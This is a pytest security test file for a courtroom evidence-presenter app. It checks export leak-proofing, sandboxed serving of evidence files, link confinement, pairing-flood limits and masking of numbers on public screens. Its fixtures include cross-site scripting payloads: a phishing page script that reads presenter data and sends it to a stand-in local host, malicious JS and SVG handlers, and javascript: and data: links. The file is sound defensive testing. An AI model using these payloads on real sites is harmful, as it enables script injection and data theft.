"""Nothing presenter-only or hostile gets through, by any route: the bundle renders as a court
screen and fetches only an allow-list; evidence files are never active content."""

from __future__ import annotations

import contextlib
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urldefrag, urljoin

import pytest
from PIL import Image

from presenter import create_app
from presenter.deck import load_deck
from presenter.integrity import hash_bytes

from .conftest import (
    DEMO_DECK,
    PRESENTER_KEY,
    PUBLIC_KEY,
    SCREEN_KEY,
    cookie,
    court_app,
    keyed_client,
    pairing_screen,
    read_pictures,
    serve_deck,
    wait_until,
)
from .deckfactory import edit
from .test_export import every_file, presenter_only, written_forms

EXCLUDED = ("E02", "E03", "E12", "E13")
"""Demo exhibits excluded for the leak test: an image, a table, a document and a chart."""
SENTINEL = "排除证据的内容SENTINEL-7f3a"


def every_form(text: str) -> set[bytes]:
    """`written_forms` and each character as a JSON \\uXXXX escape."""
    forms = written_forms(text)
    forms.add("".join(f"\\u{ord(c):04x}" for c in text).encode())
    return forms


def routes_of(exhibit) -> list[str]:
    """Every route of the app that names this exhibit."""
    item = exhibit.id
    urls = [f"/screen/exhibit/{item}/{p}" for p in ("content", "source", "facts", "corroboration")]
    urls += [f"/files/{item}/{name}" for name in exhibit.files]
    urls += [f"/images/{item}/{name}" for name in exhibit.files]
    urls += [f"/images/{item}/{name}?thumb=1" for name in exhibit.files]
    urls += [f"/images/{item}/{name}?region=0.1,0.1,0.5,0.5" for name in exhibit.files]
    urls += [f"/pages/{item}/1.png", f"/pages/{item}/1.png?region=0,0,0.5,0.5"]
    urls += [f"/tables/{item}/rows", f"/chats/{item}/messages"]
    urls += [f"/charts/{item}/figure", f"/charts/{item}/transactions"]
    return urls


PRESENTER_ROUTES = [
    "/present/deck.json", "/present/case", "/present", "/present?lang=en", "/", "/screen",
    "/screen/case", "/present/deck.json?key=" + PRESENTER_KEY, "//evil.example/x",
    "/screen?key=" + SCREEN_KEY,
]  # fmt: skip


@pytest.fixture(scope="module")
def leaky(tmp_path_factory) -> tuple[Path, Path]:
    """The demo deck with four exhibits excluded and a body that links every presenter route
    and every route of the excluded ones (as links and as pictures), exported."""
    from click.testing import CliRunner

    from presenter.cli import main

    root = tmp_path_factory.mktemp("leak")
    deck = Path(shutil.copytree(DEMO_DECK, root / "decks" / "demo"))
    report = load_deck(deck)
    links = list(PRESENTER_ROUTES)
    for item in EXCLUDED:
        exhibit = report.deck.exhibit(item)
        links += routes_of(exhibit)
        path = deck / exhibit.path
        text = path.read_text("utf-8").replace("+++\n", "+++\nexcluded = true\n", 1)
        front, body = text.split("\n+++\n", 1)
        path.write_text(f"{front}\n+++\n{SENTINEL} {item}\n\n{body}", encoding="utf-8")
    body = "\n".join(f"[链接{i}]({url}) ![图{i}]({url})" for i, url in enumerate(links))
    edit(deck / "items/e09-login-log.md", "\n+++\n", f"\n+++\n{body}\n\n")
    out = root / "bundle"
    result = CliRunner().invoke(
        main, ["export", str(deck), "--out", str(out), "--instance", str(root / "i")]
    )
    assert result.exit_code == 0, result.output
    return deck, out


def test_the_bundle_holds_nothing_presenter_only_nor_excluded_whatever_the_links(leaky):
    deck, out = leaky
    report = load_deck(deck)
    contents = [p.read_bytes() for p in every_file(out)]
    with zipfile.ZipFile(out.with_suffix(".zip")) as archive:
        contents += [archive.read(n) for n in archive.namelist()]
    secrets = presenter_only(report.deck)
    excluded = [SENTINEL]
    for item in EXCLUDED:
        exhibit = report.deck.exhibit(item)
        excluded += [exhibit.title, *(line for line in exhibit.body.splitlines() if len(line) > 8)]
    # what the app draws of the excluded exhibits, as a presenter would get it
    app = create_app(report, instance_path=deck.parent / "i2", presenter_key=PRESENTER_KEY)
    presenter = keyed_client(app, PRESENTER_KEY)
    drawn = [(deck / name).read_bytes() for i in EXCLUDED for name in report.deck.exhibit(i).files]
    for item in EXCLUDED:
        for url in routes_of(report.deck.exhibit(item)):
            with presenter.get(url) as response:
                if response.status_code == 200 and len(response.data) > 64:
                    drawn.append(response.data)
    with presenter.get("/present/deck.json") as response:
        drawn.append(response.data)
    app.extensions["shizheng.court"].record.close()
    assert len(secrets) > 10 and len(drawn) > 10
    for text in [*secrets, *excluded]:
        for form in every_form(text):
            assert not any(form in data for data in contents), text
    for data in drawn:
        assert not any(data in content for content in contents), data[:80]
    names = {p.relative_to(out).as_posix() for p in every_file(out)}
    assert not any(item in name for name in names for item in EXCLUDED)
    page = (out / "E09.html").read_text("utf-8")
    assert "链接0" in page and 'href="/' not in page and 'src="/' not in page


# --- evidence files are never active content -------------------------------------------------

PHISH = (
    '<html><body><h1>登录</h1><script src="evil.js"></script>'
    "<script>window.__xss='inline';fetch('/present/deck.json').then(r=>r.text())"
    ".then(t=>{window.__leak=t;new Image().src='http://127.0.0.1:9/leak?'+t.length})</script>"
    "</body></html>\n"
)
EVIL_JS = "window.__xss = 'js'; fetch('http://127.0.0.1:9/js');\n"
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="window.__xss=1">'
    "<script>window.__xss='svg';fetch('http://127.0.0.1:9/svg')</script>"
    '<image href="http://127.0.0.1:9/img.png" width="10" height="10"/>'
    '<rect width="40" height="30" fill="red"/></svg>\n'
)


def active_deck(root: Path) -> Path:
    """A deck whose evidence is a phishing site: an HTML page, its script, an SVG, an XML
    file, as chat attachments, and a body linking them every way an author could."""
    files = root / "files" / "chat"
    files.mkdir(parents=True)
    (root / "items").mkdir()
    originals = {
        "files/chat/phish.html": PHISH.encode(),
        "files/chat/evil.js": EVIL_JS.encode(),
        "files/chat/evil.svg": EVIL_SVG.encode(),
        "files/chat/data.xml": b'<?xml version="1.0"?><x><script>alert(1)</script></x>\n',
    }
    picture = io.BytesIO()
    Image.new("RGB", (32, 24), "navy").save(picture, format="PNG")
    originals["files/chat/photo.png"] = picture.getvalue()
    # pictures whose names, written raw in a link, would lead to the phishing page
    originals["files/chat/phish.html#.png"] = picture.getvalue()
    originals["files/chat/phish.html?.png"] = picture.getvalue()
    rows = ["时间,发送人,内容,附件"]
    for i, name in enumerate(originals):
        rows.append(f"2024-03-01 10:0{i},张某,看这个,{name}")
    originals["files/chat/chat.csv"] = ("\n".join(rows) + "\n").encode()
    for name, data in originals.items():
        (root / name).write_bytes(data)
    hashes = "".join(
        f'\n[[source.hash]]\nfile = "{name}"\nalgorithm = "sha256"\nvalue = "{hash_bytes(data, "sha256")}"\n'  # noqa: E501
        for name, data in originals.items()
    )
    links = [
        "/files/E01/files/chat/phish.html", "/files/E01/files/chat/evil.svg",
        "/files/E01/files/chat/evil.js", "/files/E01/files/chat/data.xml",
        "/files/E01/files/chat/photo.png", "files/chat/phish.html", "../files/chat/evil.svg",
        "http://127.0.0.1:9/out", "//127.0.0.1:9/x", "/present/deck.json",
        "javascript:window.__xss='link'", "data:text/html,<script>window.__xss=1</script>",
    ]  # fmt: skip
    body = "\n".join(f"[链接{i}]({url})" for i, url in enumerate(links))
    files_list = ", ".join(json.dumps(name) for name in originals if name.endswith(".csv"))
    others = ", ".join(json.dumps(name) for name in originals if not name.endswith(".csv"))
    (root / "deck.toml").write_text(
        'format = 1\n\n[case]\ntitle = "钓鱼网站案"\n\n[[fact]]\nid = "F1"\n'
        'text = "张某制作钓鱼网站"\nelement = "conduct"\n',
        encoding="utf-8",
    )
    (root / "items" / "e01-chat.md").write_text(
        f"""+++
id = "E01"
title = "张某发送的钓鱼网站文件"
type = "communication"
view = "chat"
files = [{files_list}, {others}]

[columns]
time = "时间"
sender = "发送人"
text = "内容"
attachment = "附件"

[source]
method = "seizure"
collected_at = 2024-03-05T14:30:00+08:00
collectors = ["侦查员甲", "侦查员乙"]
{hashes}
[[shows]]
fact = "F1"
aspect = "means"
how = "张某发送钓鱼网站的页面与脚本"
+++
{body}
""",
        encoding="utf-8",
    )
    report = load_deck(root)
    assert report.deck is not None and not report.errors, [p.render("en") for p in report.errors]
    return root


@pytest.fixture
def active_app(tmp_path):
    with court_app(active_deck(tmp_path / "decks" / "phish"), tmp_path / "instance") as app:
        yield app


@pytest.mark.parametrize(
    "name",
    ["phish.html", "evil.svg", "evil.js", "data.xml", "chat.csv"],
)
def test_an_original_that_could_run_is_only_ever_a_sandboxed_download(active_app, name):
    for key in (PRESENTER_KEY, SCREEN_KEY):
        with keyed_client(active_app, key).get(f"/files/E01/files/chat/{name}") as response:
            assert response.status_code == 200
            assert response.headers["Content-Disposition"].startswith("attachment")
            assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.mimetype == "application/octet-stream"


def test_pictures_and_media_are_inline_but_sandboxed_too(active_app):
    screen = keyed_client(active_app, SCREEN_KEY)
    with screen.get("/files/E01/files/chat/photo.png") as response:
        assert response.status_code == 200 and response.mimetype == "image/png"
        assert "attachment" not in response.headers.get("Content-Disposition", "")
        assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    refused = screen.get("/files/E01/files/chat/nothing.html")
    assert refused.status_code == 404
    assert refused.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_links_written_in_evidence_lead_only_into_the_app(active_app):
    html = keyed_client(active_app, SCREEN_KEY).get("/screen/exhibit/E01/content").text
    hrefs = re.findall(r'<a [^>]*href="([^"]*)"', html)
    assert hrefs and all(h.startswith("/") and not h.startswith("//") for h in hrefs), hrefs
    assert "链接7" in html and "127.0.0.1:9" not in " ".join(hrefs)


@contextlib.contextmanager
def watched(browser, inside: tuple[str, ...]) -> Iterator[tuple[object, dict[str, list[str]]]]:
    """A browser context that notes dialogs and every request outside `inside`."""
    seen: dict[str, list[str]] = {"dialogs": [], "outside": []}
    context = browser.new_context(accept_downloads=True)
    context.on(
        "request",
        lambda r: None if r.url.startswith(inside) else seen["outside"].append(r.url),
    )
    context.on(
        "page", lambda p: p.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    )  # noqa: E501
    try:
        yield context, seen
    finally:
        context.close()


def open_every_link(context, page_url: str, wait=None) -> list[str]:
    """Open the page, then each of its links in turn as a click would; a link must run no
    script wherever it leads (a download runs nothing). The links it found."""
    page = context.new_page()
    page.goto(page_url)
    if wait:
        wait(page)
    hrefs = page.eval_on_selector_all("a[href]", "els => els.map(a => a.getAttribute('href'))")
    page.close()
    for n, href in enumerate(hrefs):
        page = context.new_page()
        page.goto(page_url)
        if wait:
            wait(page)
        page.locator("a[href]").nth(n).click()
        page.wait_for_load_state("load")  # a navigation; a download leaves the page as it is
        for opened in context.pages:
            if not opened.is_closed():
                assert opened.evaluate(
                    "window.__xss === undefined && window.__leak === undefined"
                ), href
        for opened in context.pages:
            opened.close()
    return hrefs


def test_clicking_every_link_live_runs_nothing_and_leaves_nothing(browser, tmp_path):
    deck = active_deck(tmp_path / "decks" / "phish")
    with serve_deck(deck, tmp_path / "instance") as served:
        origin = served.url.rstrip("/")
        presenter = browser.new_context()
        boss = presenter.new_page()
        boss.goto(f"{origin}/present?key={PRESENTER_KEY}")
        wait_until(lambda: boss.evaluate("document.getElementById('stage').dataset.seq"), 30)
        boss.keyboard.press("ArrowRight")
        with watched(browser, (origin, "data:", "blob:")) as (context, seen):
            context.new_page().goto(f"{origin}/screen?key={SCREEN_KEY}")  # the cookie
            hrefs = open_every_link(
                context,
                f"{origin}/screen/exhibit/E01/content",
            )
            for name in ("phish.html", "evil.svg", "evil.js", "data.xml"):
                page = context.new_page()
                with contextlib.suppress(Exception):  # a download aborts the navigation
                    page.goto(f"{origin}/files/E01/files/chat/{name}")
                assert page.evaluate("window.__xss === undefined"), name
                page.close()
        presenter.close()
    assert len(hrefs) >= 5
    assert seen == {"dialogs": [], "outside": []}


def test_clicking_every_link_of_the_bundle_runs_nothing_and_leaves_nothing(browser, tmp_path, cli):
    deck = active_deck(tmp_path / "decks" / "phish")
    out = tmp_path / "out"
    assert cli("export", deck, "--out", out, "--instance", cli.instance).exit_code == 0
    for name in ("phish.html", "evil.svg", "evil.js", "data.xml"):  # byte for byte
        assert (out / "files/chat" / name).read_bytes() == (deck / "files/chat" / name).read_bytes()
    pages = sorted(out.glob("*.html"))
    linked: set[str] = set()
    with watched(browser, (out.as_uri() + "/", "data:")) as (context, seen):
        for page in pages:
            for href in open_every_link(context, page.as_uri()):
                linked.add(urldefrag(urljoin(page.as_uri(), href))[0].split("?")[0])
    active = {(out / "files/chat" / n).as_uri() for n in ("phish.html", "evil.svg", "evil.js")}
    assert not linked & active and (out / "files/chat/photo.png").as_uri() in linked
    assert (out / "files/chat/phish.html#.png").as_uri() in linked
    assert seen == {"dialogs": [], "outside": []}
    page = (out / "E01.html").read_text("utf-8")
    assert "files/chat/phish.html" in page and hash_bytes(PHISH.encode(), "sha256") in page


# --- nobody without a key can stall the court ------------------------------------------------


def presenter_socket(app):
    socketio = app.extensions["socketio"]
    client = socketio.test_client(
        app, namespace="/live", auth={"key": PRESENTER_KEY, "role": "presenter"}
    )
    client.get_received("/live")  # what connecting sent
    return client


def test_a_pairing_flood_leaves_a_few_codes_and_sends_the_presenter_only_changes(app):
    from presenter.live.access import PENDING_PER_ADDRESS, PENDING_TOTAL

    boss = presenter_socket(app)
    # each request without the cookie of the last, as a flood sends them
    answers = [app.test_client().get("/screen").status_code for _ in range(1000)]
    assert answers.count(200) == PENDING_PER_ADDRESS and answers.count(429) == 1000 - 4
    refused = app.test_client().get("/screen?lang=en")
    assert "several codes waiting" in refused.text or "配对码" in refused.text
    heard = boss.get_received("/live")
    assert [m["name"] for m in heard] == ["pairing"] * PENDING_PER_ADDRESS, "only what changed"
    court = app.extensions["shizheng.court"]
    assert len(court.access.pairings()) == PENDING_PER_ADDRESS
    # from many addresses: the court's whole list is bounded too
    for n in range(PENDING_TOTAL + 5):
        app.test_client().get("/screen", environ_base={"REMOTE_ADDR": f"10.0.{n}.1"})
    assert len(court.access.pairings()) == PENDING_TOTAL
    boss.disconnect(namespace="/live")


def test_a_screen_reloading_its_pairing_page_keeps_its_code(app):
    browser = app.test_client()
    first = re.search(r'id="pairing-code">(\d{6})<', browser.get("/screen").text)[1]
    for _ in range(10):
        again = re.search(r'id="pairing-code">(\d{6})<', browser.get("/screen").text)[1]
        assert again == first


def test_approved_pairings_end_with_the_session_and_survive_a_crash(deck_dir, tmp_path):
    import os
    import signal

    instance = tmp_path / "instance"

    def pair(served) -> str:
        _, jar, code = pairing_screen(served.url)
        boss = __import__("socketio").Client(reconnection=False)
        boss.connect(served.url, namespaces=["/live"], transports=["websocket"],
                     auth={"key": PRESENTER_KEY, "role": "presenter"})  # fmt: skip
        command = {"action": "pair", "code": code, "approve": True}
        assert boss.call("command", command, namespace="/live")["ok"]
        boss.disconnect()
        return cookie(jar, "pair")

    def kind(token: str) -> str | None:
        report = load_deck(deck_dir)
        app = create_app(report, instance_path=instance, presenter_key=PRESENTER_KEY)
        try:
            return app.extensions["shizheng.court"].access.kind(token)
        finally:
            app.extensions["shizheng.court"].record.close()

    with serve_deck(deck_dir, instance) as served:
        token = pair(served)
        os.kill(served.process.pid, signal.SIGKILL)  # a crash: the session goes on
    assert kind(token) == "screen"
    with serve_deck(deck_dir, instance) as served:
        assert 'class="stage"' in (served.get(f"screen?key={SCREEN_KEY}") or "")
        served.process.send_signal(signal.SIGTERM)  # stopped: the session ends
        served.process.wait(timeout=30)
    assert kind(token) is None


def test_cookies_are_named_for_their_instance(deck_dir, tmp_path):
    apps = [
        create_app(load_deck(deck_dir), instance_path=tmp_path / name, presenter_key=PRESENTER_KEY)
        for name in ("one", "two")
    ]
    try:
        one, two = (a.extensions["shizheng.court"].cookies for a in apps)
        assert one["presenter"] != two["presenter"] and one["pair"] != two["pair"]
        browser = keyed_client(apps[0], PRESENTER_KEY)
        # the same browser on the second server (same host, another port): not its cookie
        stranger = apps[1].test_client()
        stranger.set_cookie(one["presenter"], PRESENTER_KEY)
        assert stranger.get("/present/deck.json").status_code == 403
        assert browser.get("/present/deck.json").status_code == 200
    finally:
        for app in apps:
            app.extensions["shizheng.court"].record.close()


@pytest.mark.parametrize("url", ["/", "/present", "/present/deck.json", "/present/case"])
def test_presenter_pages_and_data_are_never_stored(client, url):
    with client.get(url) as response:
        assert response.status_code == 200
        assert response.headers["Cache-Control"] == "no-store"


def test_a_public_credential_is_masked_whatever_the_url_asks(deck_dir, tmp_path):
    edit(deck_dir / "deck.toml", 'text = "张某冒充', 'text = "张某用13812345678冒充')
    with court_app(deck_dir, tmp_path / "i") as app:
        public, screen = keyed_client(app, PUBLIC_KEY), keyed_client(app, SCREEN_KEY)
        for query in ("", "?as=whole", "?as=", "?as=presenter", "?as=public"):
            masked = public.get("/screen/exhibit/E01/facts" + query).text
            assert "138****5678" in masked and "13812345678" not in masked, query
            assert "13812345678" in screen.get("/screen/exhibit/E01/facts" + query).text
        assert "F2L000000000" in public.get("/screen/exhibit/E01/source").text  # a serial
        page = public.get("/screen").text
        assert '"public": true' in page and 'value="public"' not in page


def test_a_public_screen_gets_no_number_in_a_url_or_a_text_that_looks_like_one(tmp_path):
    """A file named by a phone number still loads on a public screen (its URL names it by a
    token), and its name, as text, is masked; a text beginning with "/" is text."""
    from .deckfactory import SHOT_MD, write_deck

    deck = write_deck(tmp_path / "case-1")
    (deck / "files" / "shot.png").rename(deck / "files" / "13812345678.png")
    item = deck / SHOT_MD
    item.write_text(item.read_text("utf-8").replace("files/shot.png", "files/13812345678.png"))
    edit(deck / "deck.toml", 'text = "张某冒充', 'text = "/13812345678 张某冒充')
    with court_app(deck, tmp_path / "i") as app:
        read_pictures(app)  # a public screen is sent no picture before it is read for numbers
        public = keyed_client(app, PUBLIC_KEY)
        html = public.get("/screen/exhibit/E02/content").text
        src = re.search(r'<img class="exhibit-image"[^>]* src="([^"]+)"', html)[1]
        assert src.startswith("/images/E02/~") and "13812345678" not in html
        with public.get(src) as picture:
            assert picture.status_code == 200
        source = public.get("/screen/exhibit/E02/source").text
        assert "files/138****5678.png" in source and "13812345678" not in source
        matrix = public.get("/screen/case").text  # text that begins with "/" is still text
        assert "/138****5678 张某冒充" in matrix and "13812345678" not in matrix


@pytest.mark.parametrize("how", ["symlink", "hard link", "folder", "listed"])
def test_an_exhibit_file_can_never_be_an_item_or_the_deck_file(deck_dir, tmp_path, how):
    """Notes, challenges and review live in items/*.md: no exhibit may show or ship one."""
    import os

    from .deckfactory import CODE_MD

    if how == "symlink":
        (deck_dir / "files" / "readme.php").symlink_to(Path("..") / CHAT_ITEM_PATH)
        edit(deck_dir / CODE_MD, 'files = ["files/admin.php"]', 'files = ["files/readme.php"]')
    elif how == "hard link":
        os.link(deck_dir / CHAT_ITEM_PATH, deck_dir / "files" / "readme.php")
        edit(deck_dir / CODE_MD, 'files = ["files/admin.php"]', 'files = ["files/readme.php"]')
    elif how == "folder":  # files/ itself is the deck folder
        (deck_dir / "files").rename(deck_dir / "evidence")
        (deck_dir / "files").symlink_to(".")
        for item in (deck_dir / "items").iterdir():
            item.write_text(item.read_text("utf-8").replace("files/", "files/evidence/"))
        edit(deck_dir / CODE_MD, 'files = ["files/evidence/admin.php"]',
             f'files = ["files/{CHAT_ITEM_PATH}"]')  # fmt: skip
    else:
        edit(deck_dir / CODE_MD, 'files = ["files/admin.php"]', f'files = ["{CHAT_ITEM_PATH}"]')
    report = load_deck(deck_dir)
    codes = [(p.code, p.path) for p in report.errors]
    assert ("path_outside_files", CODE_MD) in codes, codes
    assert report.deck is None or not report.deck.exhibit("E03")


def test_a_file_swapped_for_a_symlink_after_loading_is_not_served(app, deck_dir, screen_client):
    target = deck_dir / "files" / "shot.png"
    target.unlink()
    target.symlink_to(Path("..") / CHAT_ITEM_PATH)
    for url in ("/files/E02/files/shot.png", "/images/E02/files/shot.png"):
        with screen_client.get(url) as response:
            assert response.status_code == 404 and b"+++" not in response.data


CHAT_ITEM_PATH = "items/e01-chat.md"


def test_a_public_screen_gets_no_original_picture_and_no_file_name(active_app):
    read_pictures(active_app)
    public = keyed_client(active_app, PUBLIC_KEY)
    with public.get("/files/E01/files/chat/photo.png") as response:
        assert response.status_code == 403
    html = public.get("/screen/exhibit/E01/content").text
    thumbs = re.findall(r'<img class="attachment" src="([^"]+)"', html)
    assert thumbs and all("/images/E01/~" in src and "photo" not in src for src in thumbs)
    with public.get(thumbs[0]) as picture:
        assert picture.status_code == 200 and picture.mimetype.startswith("image/")


def test_the_public_room_gets_a_screens_name_masked_in_the_sound(app):
    socketio = app.extensions["socketio"]
    boss = socketio.test_client(
        app, namespace="/live", auth={"key": PRESENTER_KEY, "role": "presenter"}
    )
    gallery = socketio.test_client(app, namespace="/live", auth={"key": PUBLIC_KEY})
    gallery.get_received("/live")
    assert boss.emit("command", {"action": "sound", "screen": "13812340099"},
                     namespace="/live", callback=True)["ok"]  # fmt: skip
    states = [m["args"][0] for m in gallery.get_received("/live") if m["name"] == "state"]
    assert states and states[-1]["sound"] == "138****0099"
    for client in (boss, gallery):
        client.disconnect(namespace="/live")


def test_a_full_court_gives_a_new_screen_a_code_and_the_presenter_can_refuse_all(app):
    from presenter.live.access import PENDING_PER_ADDRESS, PENDING_TOTAL

    court = app.extensions["shizheng.court"]
    flooders = PENDING_TOTAL // PENDING_PER_ADDRESS
    for n in range(flooders * PENDING_PER_ADDRESS):
        app.test_client().get("/screen", environ_base={"REMOTE_ADDR": f"10.1.{n % flooders}.1"})
    assert len(court.access.pairings()) == PENDING_TOTAL
    newcomer = app.test_client().get("/screen", environ_base={"REMOTE_ADDR": "10.9.9.9"})
    assert newcomer.status_code == 200 and 'id="pairing-code"' in newcomer.text
    assert len(court.access.pairings()) == PENDING_TOTAL
    boss = presenter_socket(app)
    answer = boss.emit("command", {"action": "pair", "refuse_all": True}, namespace="/live",
                       callback=True)  # fmt: skip
    assert answer == {"ok": True, "refused": PENDING_TOTAL}
    assert court.access.pairings() == []
    boss.disconnect(namespace="/live")


def test_an_svg_picture_is_checked_and_shown_drawn_never_as_itself(deck_dir, tmp_path):
    import hashlib

    from .deckfactory import SHOT_MD

    svg = EVIL_SVG.encode()
    (deck_dir / "files" / "shot.svg").write_bytes(svg)
    item = deck_dir / SHOT_MD
    text = item.read_text("utf-8").replace("files/shot.png", "files/shot.svg")
    text = re.sub(r'algorithm = "md5"\nvalue = "[0-9a-f]+"',
                  f'algorithm = "md5"\nvalue = "{hashlib.md5(svg).hexdigest()}"', text)  # fmt: skip
    item.write_text(text, encoding="utf-8")
    assert not load_deck(deck_dir).problems
    with court_app(deck_dir, tmp_path / "i") as app:
        screen = keyed_client(app, SCREEN_KEY)
        with screen.get("/images/E02/files/shot.svg") as picture:
            assert picture.status_code == 200 and picture.mimetype == "image/png"
            assert picture.data.startswith(b"\x89PNG") and b"<svg" not in picture.data
        with screen.get("/files/E02/files/shot.svg") as original:
            assert original.headers["Content-Disposition"].startswith("attachment")
    (deck_dir / "files" / "shot.svg").write_bytes(b"<html><script>alert(1)</script></html>")
    unreadable = [p for p in load_deck(deck_dir).errors if p.code == "unreadable"]
    assert unreadable and "not an SVG picture" in unreadable[0].message("en")


def test_the_presenter_page_pairs_a_screen_and_asks_about_a_held_exhibit(
    browser, deck_copy, tmp_path
):
    """In Chromium: a code shows up in the presenter's list as soon as a screen asks, is
    approved as the public gallery with one click; a reload that excludes the exhibit on the
    screens asks the presenter, whose yes brings it back."""
    with serve_deck(deck_copy, tmp_path / "instance") as served:
        desk = browser.new_context(viewport={"width": 1366, "height": 768})
        boss = desk.new_page()
        asked: list[str] = []
        boss.on("dialog", lambda d: (asked.append(d.message), d.accept()))
        boss.goto(f"{served.url}present?key={PRESENTER_KEY}")
        wait_until(lambda: boss.evaluate("document.getElementById('stage').dataset.seq"), 30)
        gallery = browser.new_context(viewport={"width": 1024, "height": 768}).new_page()
        gallery.goto(f"{served.url}screen?name=gallery")
        code = gallery.locator("#pairing-code").inner_text()
        boss.wait_for_selector(f"#pairings li:has-text('{code}')", timeout=10_000)
        boss.locator(f"#pairings li:has-text('{code}') button").nth(1).click()  # as 旁听席
        gallery.wait_for_selector("#stage", timeout=15_000)
        wait_until(lambda: gallery.evaluate("document.documentElement.dataset.seq"), 15)
        boss.keyboard.press("ArrowRight")
        boss.keyboard.type("8")
        boss.keyboard.press("Enter")
        wait_until(lambda: "622200*********0101" in gallery.locator("#stage").inner_text(), 15)
        assert "6222000000000000101" not in gallery.content()
        item = deck_copy / "items" / "e08-deposits.md"
        item.write_text(item.read_text("utf-8").replace("+++\n", "+++\nexcluded = true\n", 1))
        # Playwright hands over events only while it is called: ask it something each time
        wait_until(lambda: boss.evaluate("1") and asked, 30)  # 该证据已排除…确认后才能展示
        wait_until(
            lambda: gallery.evaluate("document.getElementById('stage').dataset.blank") == "", 15
        )
        assert "E08" in asked[0]
        gallery.context.close()
        desk.close()
